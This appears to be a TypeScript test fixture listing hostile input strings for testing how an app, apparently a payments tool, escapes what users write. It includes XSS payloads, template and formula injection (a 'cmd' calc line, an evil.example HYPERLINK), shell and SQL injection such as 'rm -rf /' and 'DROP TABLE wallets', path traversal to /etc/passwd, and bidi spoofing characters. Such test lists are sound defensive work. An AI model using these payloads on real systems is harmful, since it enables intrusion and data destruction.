/** Strings that somebody could write where others read them. Each has a name, so that a failure says which one. */

const runs = "globalThis.hacked=1";

const markup = [
  `<script>${runs}</script>`,
  `<img src=x onerror=${runs}>`,
  `<svg onload=${runs}>`,
  `"><script>${runs}</script>`,
  `'><img src=x onerror='${runs}'>`,
  `</td></tr></table><h1>Approved</h1>`,
  `</textarea><script>${runs}</script>`,
  `</title><script>${runs}</script>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>">`,
  `<a href="javascript:${runs}">pay</a>`,
  `javascript:${runs}`,
  `data:text/html,<script>${runs}</script>`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action=https://evil.example><input name=a>`,
  `<style>*{display:none}</style>`,
  `<details open ontoggle=${runs}>`,
  `<input autofocus onfocus=${runs}>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${runs}>`,
  `<!--><img src=x onerror=${runs}>-->`,
  `&lt;script&gt;${runs}&lt;/script&gt;`,
  `&#x3C;script&#x3E;${runs}`,
  `%3Cscript%3E${runs}%3C/script%3E`,
  `<bdo dir=rtl>abc</bdo>`,
];

const templates = [
  "{{constructor.constructor('globalThis.hacked=1')()}}",
  `\${${runs}}`,
  "#{7*7}",
  "{{7*7}}",
  "<%= 7*7 %>",
  "[[7*7]]",
  "%s%s%s%n",
  "{0}{1}{2}",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "null",
  "undefined",
  "NaN",
  "-0",
  "true",
  "0x10",
  "1e309",
  "[object Object]",
];

const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  '=HYPERLINK("https://evil.example")',
  "=cmd|' /C calc'!A0",
  "\t=1",
  "\r=1",
];

const shells = [
  "'; DROP TABLE wallets; --",
  "$(reboot)",
  "`reboot`",
  "'\\''; rm -rf /",
  "| tee x",
  "&& true",
  "../../etc/passwd",
  "..\\..\\x",
  "%00",
  "C:\\x",
];

/** Characters that are not seen, or that change the order of others. */
const invisible = [
  0x061c, 0x070f, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202b,
  0x202c, 0x202d, 0x202e, 0x2028, 0x2029, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x2066, 0x2067, 0x2068,
  0x2069, 0x206a, 0x206f, 0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0x1bca0, 0x1d173, 0xe0001, 0xe0041, 0xe007f,
  0xe0100, 0x00ad, 0x034f, 0x0085, 0x009f, 0x007f, 0x0007, 0x0008, 0x001b, 0x000b, 0x000c,
].flatMap((code) => [`pay${String.fromCodePoint(code)}exe.fdp`, `${String.fromCodePoint(code)}invoice`]);

const shapes = [
  "A".repeat(120),
  "W".repeat(120),
  "漢".repeat(100),
  "🏳️‍🌈".repeat(15),
  `Z${"\u0361\u0489\u0300\u0301".repeat(25)}`,
  `a${"\u20dd".repeat(60)}b`,
  "ﷺ".repeat(40),
  "𒐫".repeat(30),
  "꧅".repeat(40),
  "שלום עולם",
  "مرحبا بالعالم",
  "שלום 1000 USD عالم",
  "l00k аlike раураl",
  "USD\u00a01\u202f000",
  "\u2003\u2003wide",
  "a b".repeat(30),
  "-".repeat(120),
  "\\".repeat(60),
  '"'.repeat(60),
  "'".repeat(60),
  "/".repeat(100),
  "0".repeat(120),
  "\ud83d\ude00".repeat(30),
  "🇩🇪".repeat(20),
  "👩‍👩‍👧‍👦".repeat(8),
  "a\nb\nc",
  "tab\tseparated\tstring",
  "ends with a space ",
  " begins with one",
  "https://evil.example/?q=1#x",
  "http://localhost/console#invitation=x",
  "tx_01h455vb4pex5vsknk084sn02q",
  "completed",
  "Approved by everybody",
  "😀\u200d😀",
  "e\u0301 and é",
  "ǅ ß ŉ ΐ",
  "\ufffd\ufffd",
];

export const hostileStrings: readonly string[] = [
  ...markup,
  ...templates,
  ...formulas,
  ...shells,
  ...invisible,
  ...shapes,
];

/** What must be named and not be in the document as it is. */
export const hiddenCharacters =
  "[\\u0000-\\u0008\\u000b\\u000c\\u000e-\\u001f\\u007f-\\u009f\\u{e0000}-\\u{e0fff}\\u2028\\u2029\\ufeff\\u200b-\\u200f\\u202a-\\u202e\\u2060-\\u206f\\u061c\\u3164\\ufe00-\\ufe0f]";
